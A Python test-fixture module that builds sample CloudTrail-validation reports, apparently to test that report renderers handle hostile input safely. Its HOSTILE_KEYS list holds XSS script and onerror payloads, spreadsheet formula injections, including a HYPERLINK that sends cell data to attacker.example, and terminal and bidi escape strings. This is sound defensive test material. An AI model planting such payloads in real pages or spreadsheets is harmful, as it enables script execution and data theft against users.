"""Reports to render: a quiet one, a telling one, a hostile one, an empty one, and one as large as an organization's."""

from __future__ import annotations

from collections import Counter
from collections.abc import Iterable, Mapping, Sequence
from datetime import UTC, datetime, timedelta
from typing import Any

from msgspec.structs import replace

from cloudtrail_validate.core import rules
from cloudtrail_validate.core.model import Cause, Finding, Interval, Kind, Locator, Status
from cloudtrail_validate.core.versions import Change, Changed, Changes, Counts, Event, Original, Versions
from cloudtrail_validate.report import (
    ChainRecord,
    CountsRecord,
    EventRecord,
    FindingRecord,
    GapRecord,
    ProgressRecord,
    PublicKeyRecord,
    Report,
    RequestEcho,
    Run,
    Summary,
    Tally,
    Tool,
    Verdict,
    decide,
)
from cloudtrail_validate.report.build import record

START = datetime(2026, 1, 1, tzinfo=UTC)
BUCKET = "DOC-EXAMPLE-BUCKET"
ACCOUNT, SECOND = "111122223333", "444455556666"
TRAIL_ARN = f"arn:aws:cloudtrail:us-east-1:{ACCOUNT}:trail/mgmt"
GOOD, BAD = "6b0c1d" + "0" * 58, "f00dfeed" + "9" * 56

HOSTILE_KEYS = (
    "AWSLogs/<script>document.title='pwned'</script>.json.gz",
    "AWSLogs/</script><script>document.title='pwned'</script>",
    "AWSLogs/<img src=x onerror=\"document.title='pwned'\">",
    '=HYPERLINK("https://attacker.example/?"&A1;"x")',
    "+1+1|calc",
    "-2+3",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
    "x;=1+1",
    'quote " comma, newline \n and \r\n end',
    "line\u2028separator\u2029and\u0085more",
    "right\u202eto\u202cleft \x1b[31mred\x1b[0m \x00nul",
    "link [click](https://attacker.example) {0} ]]> <!-- &amp; --!>",
    "surrogate \udcff and \ufffe\uffff",
    "emoji 🗝 und Ümlaut/名前",
    "k" * 1_024,
)


def at(hours: float) -> datetime:
    """A moment, hours after the window's start."""
    return START + timedelta(hours=hours)


def log_key(hour: int = 5, number: int = 0, account: str = ACCOUNT, region: str = "us-east-1") -> str:
    """The key of a log."""
    day = at(hour)
    return (
        f"AWSLogs/{account}/CloudTrail/{region}/{day:%Y/%m/%d}/"
        f"{account}_CloudTrail_{region}_{day:%Y%m%dT%H%MZ}_AbCdEf{number:010}.json.gz"
    )


def digest_key(hour: int, account: str = ACCOUNT, region: str = "us-east-1", trail: str = "mgmt") -> str:
    """The key of the digest that ends at `hour`."""
    end = at(hour)
    return (
        f"AWSLogs/{account}/CloudTrail-Digest/{region}/{end:%Y/%m/%d}/"
        f"{account}_CloudTrail-Digest_{region}_{trail}_us-east-1_{end:%Y%m%dT%H%M%SZ}.json.gz"
    )


def finding(
    rule: str, key: str | None = None, hours: tuple[float, float] | None = None, **fields: Any
) -> FindingRecord:
    """One finding as the engine would publish it."""
    defaults: dict[str, Any] = {
        "status": rules.RULES[rule].status,
        "account": ACCOUNT,
        "region": "us-east-1",
        "trail": "mgmt",
        "where": None if key is None else Locator(fields.pop("bucket", BUCKET), key),
        "interval": Interval(at(hours[0]), at(hours[1])) if hours else None,
    }
    return record(Finding(rule, **(defaults | fields)))


def explained(
    bare: FindingRecord, number: int = 2, principal: str = "arn:aws:iam::111122223333:user/jane"
) -> FindingRecord:
    """The finding with events and a lifecycle rule that may explain it."""
    events = tuple(
        EventRecord(
            time=at(2 - n / 60),
            event_name="DeleteObject",
            event_source="s3.amazonaws.com",
            event_id=f"event-{n}",
            region="us-east-1",
            principal=principal,
            source_ip="192.0.2.1",
            error_code=None if n else "AccessDenied",
            object_key=bare.key,
            log=f"s3://{BUCKET}/{log_key(2)}",
        )
        for n in range(number)
    )
    gone = Event(event_id="event-gone", time="2026-01-01T00:05:00Z", name="DeleteTrail", actor=principal)
    changes = Changes(
        verdict="different",
        counts=Counts(unchanged=8, removed=1, added=0, changed=1, duplicates=0),
        removed=(gone,),
        changed=(Changed(event=gone, changes=(Change(path=principal, before=principal, after=None),), total=1),),
    )
    versions = Versions(
        changes=changes,
        original=Original(version_id="v1", last_modified=at(1), sha256=GOOD),
        replaced_at=at(2),
        restore_command="aws s3api copy-object --bucket DOC-EXAMPLE-BUCKET",
        note=principal,
    )
    return replace(bare, events=events, lifecycle="expire-old (after 30 d)", versions=versions)


def chain(
    account: str = ACCOUNT,
    region: str = "us-east-1",
    *,
    hours: float = 24,
    gaps: Sequence[tuple[str, float, float]] = (),
    until: float | None = None,
    **fields: Any,
) -> ChainRecord:
    """A chain that covers the window but for its gaps and what lies behind `until`."""
    edges = [0.0, *(edge for _, *gap in gaps for edge in gap), hours if until is None else until]
    covered = tuple((at(a), at(b)) for a, b in zip(edges[::2], edges[1::2], strict=True) if a < b)
    defaults: dict[str, Any] = {
        "account": account,
        "region": region,
        "trail": "mgmt",
        "home_region": "us-east-1",
        "organization_id": None,
        "kind": Kind.STANDARD,
        "digests": CountsRecord(valid=int(sum((b - a).total_seconds() for a, b in covered) // 3_600)),
        "logs": CountsRecord(valid=int(hours * 12)),
        "covered": covered,
        "gaps": tuple(GapRecord(rule=rule, start=at(a), end=at(b), undigested_logs=4) for rule, a, b in gaps),
    }
    return ChainRecord(**(defaults | fields))


def _sum(records: Iterable[CountsRecord]) -> CountsRecord:
    totals: Counter[str] = Counter()
    for counts in records:
        totals.update({name: getattr(counts, name) for name in CountsRecord.__struct_fields__})
    return CountsRecord(**totals)


def report(
    chains: Iterable[ChainRecord], findings: Iterable[FindingRecord] = (), *, hours: float = 24, **fields: Any
) -> Report:
    """A report whose verdict, order and sums follow from its chains and findings."""
    all_chains, order = tuple(chains), list(Status)
    found = tuple(sorted(findings, key=lambda f: (order.index(f.status), f.rule, f.account or "", f.key or "")))
    tally = Tally()
    for one in found:
        tally.add(one.rule, one.status)
    digests = _sum(one.digests for one in all_chains)
    number = sum(getattr(digests, name) for name in CountsRecord.__struct_fields__)
    verdict, code = decide(tally, digests=number, tolerated=fields.pop("tolerated", ()))
    lost = max((sum((g.end - g.start).total_seconds() for g in one.gaps) for one in all_chains), default=hours * 3_600)
    defaults: dict[str, Any] = {
        "verdict": verdict,
        "exit_code": int(code),
        "tool": Tool(name="ctvalidate", version="0.1.0"),
        "run": Run(
            started=at(hours),
            finished=at(hours) + timedelta(seconds=94),
            caller_arn=f"arn:aws:sts::{SECOND}:assumed-role/auditor/jane",
        ),
        "request": RequestEcho(
            trail_arn=TRAIL_ARN, start=START, end=at(hours), source=f"s3://{BUCKET}", regions=(), accounts=()
        ),
        "summary": Summary(
            digests=digests,
            logs=_sum(one.logs for one in all_chains),
            log_bytes_hashed=1_482_331_904,
            window_seconds=int(hours * 3_600),
            covered_seconds=int(hours * 3_600 - lost),
        ),
        "chains": all_chains,
        "findings": found,
        "public_keys": tuple(
            PublicKeyRecord(fingerprint=f"{number:02x}" * 16, region=region, source="aws")
            for number, region in enumerate(sorted({one.region for one in all_chains}))
        ),
        "findings_truncated": False,
    }
    return Report(**(defaults | fields))


def single(rule: str = rules.LOG_ALTERED, key: str | None = None, **fields: Any) -> Report:
    """A day of one chain with one finding."""
    return report([chain()], [finding(rule, key or log_key(), **fields)])


def quiet() -> Report:
    """Nothing found: a day of two regions, the last hour not due yet."""
    return report([chain(), chain(region="eu-west-1", until=23)])


def interrupted(findings: Iterable[FindingRecord] = ()) -> Report:
    """A run of three chains that was stopped: one is done, of one some logs were read, and one was not begun."""
    counts = CountsRecord(valid=7)
    chains = (
        chain(),
        chain(region="eu-west-1", logs=counts, unfinished=True),
        chain(SECOND, until=0, digests=CountsRecord(), logs=CountsRecord(), unfinished=True),
    )
    told = report(chains, findings)
    changed = told.verdict is Verdict.CHANGED
    return replace(
        told,
        run=replace(told.run, finished=told.run.started + timedelta(seconds=17)),
        verdict=Verdict.CHANGED if changed else Verdict.UNPROVEN,
        exit_code=1 if changed else 130,
        interrupted=True,
        progress=ProgressRecord(objects_done=12_106, objects_known=21_168, all_known=False),
    )


def empty() -> Report:
    """No digest at all."""
    absent = finding(rules.CHAIN_ABSENT, hours=(0, 24), trail=None)
    return report([], [absent])


def every_rule(known: Mapping[str, rules.Rule] = rules.RULES) -> list[FindingRecord]:
    """One finding of each rule."""
    out = []
    for number, (name, rule) in enumerate(known.items()):
        more: dict[str, Any] = {}
        if rule.status is Status.ALTERED:
            more = {"expected": GOOD, "actual": BAD}
        if name.endswith("-unreadable"):
            more = {"cause": Cause.KMS_DENIED}
        if name.startswith(("gap", "chain-absent")):
            out.append(finding(name, hours=(number % 23, number % 23 + 1), **more))
        else:
            key = digest_key(number % 24 + 1) if name.startswith(("digest", "chain")) else log_key(number % 24, number)
            out.append(finding(name, key, hours=(number % 23, number % 23 + 1), **more))
    return out


def telling() -> Report:
    """Three months of two accounts and four regions, with one of everything and a broken week."""
    days = 90
    regions = ("us-east-1", "us-west-2", "eu-west-1", "ap-southeast-2")
    lost = [("gap-broken", 700.0, 868.0)]
    chains = [chain(ACCOUNT, region, hours=days * 24.0) for region in regions]
    chains[0] = chain(
        ACCOUNT,
        "us-east-1",
        hours=days * 24.0,
        digests=CountsRecord(valid=2_140, altered=11, missing=7, unverifiable=2),
        logs=CountsRecord(valid=25_873, altered=43, missing=1, extra=1, unverifiable=2),
    )
    chains += [chain(SECOND, region, hours=days * 24.0) for region in regions[:-1]]
    chains += [chain(SECOND, regions[-1], hours=days * 24.0, gaps=lost)]
    found = every_rule(rules.TRAIL_RULES)
    found += [
        finding(rules.LOG_ALTERED, log_key(1_500 + n, n), hours=(1_500 + n, 1_501 + n), expected=GOOD, actual=BAD)
        for n in range(40)
    ]
    found += [finding(rules.GAP_BROKEN, hours=(700, 868), account=SECOND, region=regions[-1])]
    found += [explained(finding(rules.DIGEST_MISSING, digest_key(40), hours=(39, 40)), 30)]
    return report(chains, found, hours=days * 24.0)


def hostile() -> Report:
    """Strings that want to be formulas, markup, escapes and links, in every field that a bucket can reach."""
    found = []
    for key in HOSTILE_KEYS:
        text = key.encode("utf-8", "backslashreplace").decode()  # only file names can hold a lone surrogate
        found.append(explained(finding(rules.LOG_EXTRA, key, expected=text, actual=text), principal=text))
        found.append(finding(rules.DIGEST_MALFORMED, key, account=text, region=text, trail=text, bucket=text))
    public_key = PublicKeyRecord(fingerprint=HOSTILE_KEYS[1], region=HOSTILE_KEYS[0], source=HOSTILE_KEYS[2])
    return report(
        [chain(trail=HOSTILE_KEYS[1]), chain(HOSTILE_KEYS[0], HOSTILE_KEYS[2])], found, public_keys=(public_key,)
    )


def huge(accounts: int = 20, regions: int = 10, days: int = 90, findings: int = 10_000) -> Report:
    """An organization: `accounts` x `regions` chains, faults all over."""
    names = [f"{area}-{n}" for area in ("us-east", "us-west", "eu-west", "eu-central", "ap-south") for n in (1, 2)]
    chains, found, window = [], [], days * 24.0
    for a in range(accounts):
        for r in range(regions):
            account = f"{111122223333 + a * 1_000_003:012}"
            gap = 24.0 * ((a * 7 + r * 3) % (days - 10))
            gaps = [("gap-broken", gap + 5, gap + 5 + 12 * (r + 1))] if (a + r) % 3 == 0 else []
            chains.append(
                chain(account, names[r % 10], hours=window, gaps=gaps, organization_id="o-exampleorgid", trail="org")
            )
    for n in range(findings):
        place = chains[n * 13 % len(chains)]
        rule = (rules.LOG_ALTERED, rules.LOG_MISSING, rules.LOG_EXTRA, rules.LOG_UNDIGESTED, rules.LOG_REWRITTEN)[n % 5]
        hour = n * 37 % int(window - 1)
        key = log_key(hour, n, place.account, place.region)
        where: dict[str, Any] = {"account": place.account, "region": place.region, "trail": "org"}
        values = {"expected": GOOD, "actual": BAD} if rule is rules.LOG_ALTERED else {}
        found.append(finding(rule, key, hours=(hour, hour + 1), **where, **values))
    return report(chains, found, hours=window)


def examination() -> dict[str, Any]:
    """What `ctvalidate doctor --format json` writes, as much as a report shows of it, and a field more."""
    checks = [
        ("trail-logging", "ok", "The trail is logging", "IsLogging is true", ()),
        ("bucket-versioning", "bad", "The bucket keeps versions", "Status is <b>Suspended</b>", ("aws s3api x",)),
        ("trail-scp", "unknown", "Nobody may stop the trail", "access denied", ()),
        ("trail-second-copy", "weak", "There is a second copy", HOSTILE_KEYS[0], ("# ask", "aws cloudtrail y")),
    ]
    fields = ("check", "status", "title", "evidence", "remedy")
    return {
        "schema": "ctvalidate.doctor/1",
        "verdict": "bad",
        "exit_code": 1,
        "run": {"started": "2026-01-02T00:00:00Z", "finished": "2026-01-02T00:00:09Z", "caller_arn": None},
        "trail_arn": TRAIL_ARN,
        "bucket": BUCKET,
        "results": [
            {**dict(zip(fields, check, strict=True)), "why": "It matters.", "axes": ["undo"]} for check in checks
        ],
    }


def verdicts() -> dict[Verdict, Report]:
    """One report for each verdict."""
    unproven = report([chain(gaps=[("gap-broken", 3, 5)])], [finding(rules.GAP_BROKEN, hours=(3, 5))])
    return {Verdict.VALID: quiet(), Verdict.CHANGED: telling(), Verdict.UNPROVEN: unproven, Verdict.EMPTY: empty()}
